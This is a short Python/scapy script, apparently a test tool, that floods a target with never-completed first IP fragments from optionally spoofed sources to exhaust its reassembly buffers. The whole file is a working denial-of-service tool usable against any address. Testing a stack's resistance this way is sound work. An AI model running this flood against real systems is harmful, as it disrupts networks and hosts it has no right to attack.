#!/usr/bin/python3
"""Send never-completing first fragments at a stack (reassembly hostage).

usage: fragflood.py IFACE DST_MAC DST_IP FIRST_SRC_IP COUNT [--same-source]

Sends COUNT first fragments (offset 0, MF set, 400 bytes of an ICMP echo
request whose other fragments never come), each with its own IP ID. The
sources are FIRST_SRC_IP, FIRST_SRC_IP + 1, ... (spoofed hosts on the
test's own subnet), or all FIRST_SRC_IP with --same-source.
"""
import ipaddress
import sys

from scapy.all import ICMP, IP, Ether, Raw, get_if_hwaddr, sendp  # noqa: E402

iface, dst_mac, dst_ip, first_src, count = sys.argv[1:6]
same = "--same-source" in sys.argv[6:]
count = int(count)
eth = Ether(dst=dst_mac, src=get_if_hwaddr(iface))
# 1208 bytes of ICMP (header + 1200), of which only the first 400 are sent.
echo = bytes(ICMP(type=8, id=0x4444, seq=1) / Raw(b"\xa5" * 1200))
frames = []
for i in range(count):
    src = first_src if same else str(ipaddress.IPv4Address(first_src) + i)
    frames.append(eth / IP(src=src, dst=dst_ip, id=0x6000 + i, flags="MF", frag=0, proto=1)
                  / Raw(echo[:400]))
sendp(frames, iface=iface, verbose=False)
print("sent", count, "first fragments", "from", first_src, "(same source)" if same else "onwards")
